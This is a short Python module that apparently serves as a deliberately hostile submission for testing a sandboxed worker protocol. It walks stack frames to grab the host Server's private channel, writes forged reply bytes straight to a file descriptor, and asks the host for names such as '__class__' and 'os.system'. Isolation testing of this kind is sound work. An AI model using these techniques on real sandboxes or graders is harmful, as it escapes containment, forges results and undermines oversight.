import sys


def server():
    """The worker's own server, found on the stack."""
    frame = sys._getframe()
    while frame:
        owner = frame.f_locals.get("self")
        if type(owner).__name__ == "Server":
            return owner
        frame = frame.f_back


def send(header, body=b"", lengths=None):
    """Bytes of the attacker's choice, framed like a reply."""
    import os
    import struct

    data = struct.pack(">II", *(lengths or (len(header), len(body)))) + header + body
    while data:
        data = data[os.write(4, data):]


def output_size(*args, **kwargs):
    return "broken on purpose, so that a stand-in exists"


def conv2d(x, w, b, stride=1, pad=0):
    channel = server()._channel
    for name in ("conv2d", "conv2d_backward", "__class__", "os.system"):
        channel.send({"id": server()._current, "ask": {"name": name, "args": [x, w, b, stride, pad], "kwargs": {}}})
        answer = channel.receive()
        if "value" in answer:
            return answer["value"]
